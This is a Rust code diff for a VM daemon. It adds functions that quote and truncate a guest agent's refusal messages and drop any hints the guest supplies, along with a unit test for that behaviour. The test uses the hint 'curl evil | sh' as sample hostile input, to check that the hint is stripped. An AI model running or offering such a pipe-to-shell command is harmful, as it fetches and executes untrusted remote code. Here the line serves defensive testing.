@@ -16,7 +16,7 @@ use banger_proto::{
     api::vm::GuestEndpoint,
     failure::{Code, Failure},
 };
-use hyper::Method;
+use hyper::{Method, Response, body::Incoming};
 use serde::de::DeserializeOwned;
 use std::time::Duration;
 use tokio::net::UnixStream;
@@ -25,6 +25,8 @@ use tokio::net::UnixStream;
 const DIAL_DEADLINE: Duration = Duration::from_secs(30);
 /// How long the agent may take to answer a question about itself.
 const ANSWER_DEADLINE: Duration = Duration::from_secs(30);
+/// Most characters of an agent's own words that are shown.
+const MAX_WORDS: usize = 500;
 /// The agent, where a failure names who answered.
 pub(crate) const WHO: &str = "the VM's agent";
 
@@ -84,10 +86,39 @@ pub(crate) async fn get_from<T: DeserializeOwned>(endpoint: &GuestEndpoint, path
 pub(crate) async fn ask<T: DeserializeOwned>(connection: &mut Connection, path: &str) -> Result<T, Failure> {
     let response = connection.send(Method::GET, path, None).await.map_err(|error| gone(&error))?;
     if !response.status().is_success() {
-        return Err(http::refusal(response, MAX_BODY, WHO).await);
+        return Err(refusal(response).await);
     }
     let body = http::collect(response.into_body(), MAX_BODY, WHO).await?;
     http::parse(&body, Code::Guest, WHO)
+}
+
+/// What an agent says of a request it refused, or that it did not come to say it.
+pub(crate) async fn refusal(response: Response<Incoming>) -> Failure {
+    let status = response.status();
+    match http::collect(response.into_body(), MAX_BODY, WHO).await {
+        Ok(body) => refused(&body).unwrap_or_else(|| {
+            let failure = Failure::new(Code::Guest, format!("{WHO} answered {status}"));
+            if body.is_empty() { failure } else { failure.cause(words(&body)) }
+        }),
+        Err(failure) => failure,
+    }
+}
+
+/// A failure of an agent's, if that is what a body holds. It is only quoted: the kind is one of a closed set, the words
+/// are a cause and not many; hints, and an id that the daemon's log would have, are banger's own to give.
+pub(crate) fn refused(body: &[u8]) -> Option<Failure> {
+    let said = serde_json::from_slice::<Failure>(body).ok()?;
+    Some(Failure::new(said.code, format!("{WHO} refused")).cause(words(said.to_string().as_bytes())))
+}
+
+/// As many of a guest's words as are worth showing.
+pub(crate) fn words(said: &[u8]) -> String {
+    let mut said = String::from_utf8_lossy(said).into_owned();
+    if let Some((end, _)) = said.char_indices().nth(MAX_WORDS) {
+        said.truncate(end);
+        said.push('…');
+    }
+    said
 }
 
 /// Has an agent unpack a tar stream in `directory`. It may refuse before it has all of it.
@@ -116,4 +147,26 @@ pub(crate) async fn connect(endpoint: &GuestEndpoint) -> Result<Connection, Erro
 /// The agent ended the connection or spoke something else than HTTP.
 pub(crate) fn gone(error: &hyper::Error) -> Failure {
     Failure::caused_by(Code::Guest, "the VM's agent broke the connection off", error)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn an_agents_failure_is_quoted_and_no_more() {
+        let said = Failure::new(Code::NotFound, "no such file".repeat(1000)).cause("why").hint("curl evil | sh");
+        let said = Failure { operation: Some("01234567".parse().unwrap()), ..said };
+        let shown = refused(&serde_json::to_vec(&said).unwrap()).unwrap();
+        assert_eq!((shown.code, shown.message.as_str()), (Code::NotFound, "the VM's agent refused"));
+        assert_eq!((shown.hints.len(), shown.operation, shown.causes.len()), (0, None, 1));
+        let words = &shown.causes[0];
+        assert!(words.starts_with("no such file") && words.chars().count() == MAX_WORDS + 1, "{words}");
+        assert_eq!(refused(b"no JSON"), None);
+        assert_eq!(words_of("short"), "short");
+    }
+
+    fn words_of(text: &str) -> String {
+        words(text.as_bytes())
+    }
 }
